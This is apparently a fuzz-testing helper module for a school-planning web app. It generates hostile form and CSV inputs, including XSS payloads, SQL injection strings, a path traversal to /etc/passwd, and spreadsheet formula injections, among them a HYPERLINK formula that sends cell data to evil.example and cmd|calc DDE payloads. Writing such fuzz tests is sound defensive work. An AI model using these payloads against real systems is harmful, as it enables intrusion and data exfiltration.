"""Hostile values for the fuzz tests (tests/schoolplan/test_fuzz.py): hypothesis strategies
per kind of form field, and CSV files that are malformed, oversized, in the wrong encoding or
full of formulas.

A value is a str, bytes (sent as they are: invalid UTF-8 reaches the server undecoded) or a list
of either (a field sent several times, as checkboxes are).
"""

import calendar
import csv
import io

from hypothesis import strategies as st

from .clock import YEAR, on

MARK = "XSS-FUZZ"
SCRIPT = f'<script>alert("{MARK}")</script>'
IMG = f'"><img src=x onerror=alert("{MARK}")>'
# What must never reach a page unescaped.
RAW_MARKERS = (SCRIPT.encode()[:24], b"<img src=x onerror=")

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]

TEXTS = [
    "",
    " ",
    "\t\n\r ",
    "x" * 10_050,
    "é" * 5_000 + "😀" * 2_000,
    "\x00",
    "a\x00b",
    "".join(chr(c) for c in range(1, 32)) + "\x7f",
    "\u202eevil\u202c \u200f\u200e\u2066x\u2069",
    "😀👨‍👩‍👧‍👦🏳️‍🌈",
    "e\u0301\u0301\u0301\u0301 Z\u0335\u0321\u0322\u0347\u035a",
    "\ufeff\ufffe\uffff",
    "\u2028\u2029\x85",
    SCRIPT,
    IMG,
    f"<a href=\"javascript:alert('{MARK}')\">x</a>",
    *FORMULAS,
    "'; DROP TABLE schoolplan_school; --",
    "1' OR '1'='1",
    '" OR ""="',
    "{{ 7|add:7 }}{% now 'Y' %}",
    "%s%s%s%n%x",
    "../../../../etc/passwd",
    "null",
    "None",
    "   padded   ",
]
RAW_BYTES = [
    b"\xff\xfe\xfd",
    b"\xed\xa0\x80",
    b"\xc3\x28",
    b"caf\xe9",
    b"\x80abc",
    b"\xf4\x90\x80\x80",
]

NUMBERS = [
    "0",
    "-1",
    "-0",
    "1e400",
    "-1e400",
    "1e-400",
    "NaN",
    "nan",
    "inf",
    "-Infinity",
    "sNaN",
    "99999999999999999999999999",
    "9223372036854775808",
    "2147483648",
    "32768",
    "1.000000001",
    "1,5",
    "0x10",
    " 5 ",
    "٣",
    "²",
    "５",
    "1_000",
    "5%",
    "",
]
# A day of the school year the tests build, written the wrong ways; and a 29 February of a
# year that has none.
_DAY = on(12, 1)
_NO_LEAP_YEAR = next(year for year in range(YEAR, YEAR + 4) if not calendar.isleap(year))
_FULL_WIDTH = str.maketrans("0123456789", "０１２３４５６７８９")
DATES = [
    "0000-01-01",
    "0001-01-01",
    "99999-01-01",
    "1900-02-29",
    f"{_NO_LEAP_YEAR}-02-29",
    f"{YEAR}-13-01",
    f"{YEAR}-00-10",
    "9999-12-31",
    "1-1-1",
    _DAY.isoformat().translate(_FULL_WIDTH),
    f"{_DAY.isoformat()}T00:00",
    f"{_DAY:%G-W%V}-1",
    f"{_DAY:%m/%d/%Y}",
    f"-{_DAY.isoformat()}",
    "",
]
TIMES = ["24:00", "25:61", "-1:00", "23:59:59.9999999", "12", "noon", "００:００", "9:00 PM", ""]
IDS = [
    "0",
    "-1",
    "abc",
    "1.5",
    "99999999999999999999999",
    "9223372036854775808",
    "²",
    "",
    "1 OR 1=1",
]


def text():
    """Hostile text: the fixed list, invalid UTF-8, and whatever hypothesis makes up."""
    return st.one_of(
        st.sampled_from(TEXTS),
        st.sampled_from(RAW_BYTES),
        st.text(st.characters(exclude_categories=("Cs",)), max_size=60),
        st.text(st.characters(codec="utf-8"), min_size=201, max_size=400),
    )


def numbers():
    return st.one_of(
        st.sampled_from(NUMBERS),
        st.integers(min_value=-(10**30), max_value=10**30).map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
        text(),
    )


def dates():
    return st.one_of(
        st.sampled_from(DATES),
        st.dates().map(lambda d: d.isoformat()),
        st.tuples(st.integers(-5, 100000), st.integers(-1, 14), st.integers(-1, 33)).map(
            lambda t: f"{t[0]}-{t[1]:02d}-{t[2]:02d}"
        ),
        text(),
    )


def times():
    return st.one_of(st.sampled_from(TIMES), st.times().map(lambda t: t.isoformat()), text())


def ids(known):
    """Ids of objects the form may and may not offer, and things that are not ids at all."""
    single = st.one_of(st.sampled_from(sorted(known) or ["1"]), st.sampled_from(IDS), text())
    return single


def id_lists(known):
    return st.lists(ids(known), max_size=4)


def choices(valid):
    return st.one_of(st.sampled_from(list(valid) or [""]), st.sampled_from(["", "nope"]), text())


def booleans():
    return st.sampled_from(["on", "", "true", "false", "0", "1", "off", SCRIPT])


# --- CSV files ---------------------------------------------------------------------------------


def csv_bytes(rows, encoding="utf-8", newline="\r\n"):
    out = io.StringIO()
    csv.writer(out, lineterminator=newline).writerows(rows)
    return out.getvalue().encode(encoding, errors="replace")


def csv_files(header, good_rows):
    """Files built around a valid one (header + good_rows): every way of getting it wrong."""
    cell = st.one_of(st.sampled_from(TEXTS[:3] + TEXTS[5:] + FORMULAS), st.text(max_size=30))
    good = csv_bytes([header, *good_rows])

    @st.composite
    def hostile_rows(draw):
        rows = [list(header)] + [list(r) for r in good_rows]
        for row in rows[1:]:
            for i in range(len(row)):
                if draw(st.booleans()):
                    row[i] = draw(cell)
        return csv_bytes(rows)

    return st.one_of(
        st.just(good),
        st.binary(max_size=3000),
        st.sampled_from(
            [
                b"",
                b"\n\n\n",
                b"\xef\xbb\xbf",
                b"\xef\xbb\xbf\r\n",
                b"\x00" * 10,
                "\ufeff".join(header).encode(),
                csv_bytes([header]),
                csv_bytes([header, *good_rows], encoding="utf-16"),
                csv_bytes([header, *good_rows], encoding="utf-16-le"),
                csv_bytes([header, *good_rows], encoding="utf-32"),
                csv_bytes([header, *good_rows, ["Café", "Niño"]], encoding="latin-1"),
                csv_bytes([header, *good_rows, ["“smart”", "€"]], encoding="cp1252"),
                b"\xef\xbb\xbf" + good,
                good.replace(b",", b";"),
                good.replace(b",", b"\t"),
                good.replace(b"\r\n", b"\r"),
                good + b'"unterminated,quote\n',
                good + b'"x' + b"y" * 140_000 + b'"\n',
                good + b"a\x00b,c\n",
                csv_bytes([header[:-1], *good_rows]),
                csv_bytes([[*header, "extra"], *good_rows]),
                csv_bytes([header, *[[*r, "extra"] for r in good_rows]]),
                csv_bytes([header, *[r[:-1] for r in good_rows]]),
                csv_bytes([header, *[['a\n"b"', *r[1:]] for r in good_rows]]),
                csv_bytes([[h.upper() for h in header], *good_rows]),
                csv_bytes([header, *good_rows * 3]),
                b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
                b"PK\x03\x04" + bytes(range(256)),
            ]
        ),
        hostile_rows(),
    )


def huge_files(header, row):
    """Files past the size or row limits: 5 MB, and 100,000 rows."""
    return st.sampled_from(
        [
            csv_bytes([header]) + b"x" * (5 * 1024 * 1024),
            csv_bytes([header, *[row] * 100_000]),
        ]
    )
